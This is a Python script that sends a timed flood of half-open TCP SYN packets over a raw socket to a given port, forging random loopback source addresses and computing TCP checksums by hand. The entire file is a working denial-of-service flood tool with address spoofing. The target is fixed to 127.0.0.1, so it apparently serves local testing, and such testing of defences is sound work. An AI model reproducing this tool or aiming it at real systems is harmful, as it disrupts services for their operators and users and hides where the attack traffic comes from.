"""Sends SYNs that nobody will follow up, from made-up addresses of loopback: syn_flood.py PORT SECONDS."""
import random
import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


port, target = int(sys.argv[1]), socket.inet_aton("127.0.0.1")
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sent, end = 0, time.time() + float(sys.argv[2])
while time.time() < end:
    source = struct.pack("!I", 0x7F000000 + random.randrange(256, 1 << 24))
    start = struct.pack("!HHII", random.randrange(1024, 65535), port, random.getrandbits(32), 0)
    syn = start + struct.pack("!BBHHH", 5 << 4, 2, 64240, 0, 0)
    sum_ = checksum(source + target + struct.pack("!BBH", 0, 6, 20) + syn)
    packet = struct.pack("!BBHHHBBH", 0x45, 0, 40, 0, 0, 64, 6, 0) + source + target
    raw.sendto(packet + syn[:16] + struct.pack("!H", sum_) + syn[18:], ("127.0.0.1", 0))
    sent += 1
print(sent)
